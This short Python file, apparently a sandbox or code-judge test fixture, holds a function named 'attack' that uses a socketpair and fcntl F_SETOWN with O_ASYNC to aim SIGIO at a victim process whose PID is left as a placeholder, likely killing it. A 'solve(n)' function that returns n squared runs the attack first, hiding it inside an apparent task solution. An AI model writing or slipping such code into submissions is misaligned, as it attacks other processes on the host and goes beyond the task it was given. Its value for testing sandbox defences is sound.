"""Makes another process the owner of a pipe's signals, and fills the pipe."""

import fcntl
import os
import socket


def attack():
    one, two = socket.socketpair()
    fcntl.fcntl(one, fcntl.F_SETOWN, int("@VICTIM@"))
    fcntl.fcntl(one, fcntl.F_SETFL, os.O_ASYNC | os.O_NONBLOCK)
    two.send(b"x")
    return True


def solve(n):
    return n * n if attack() else None
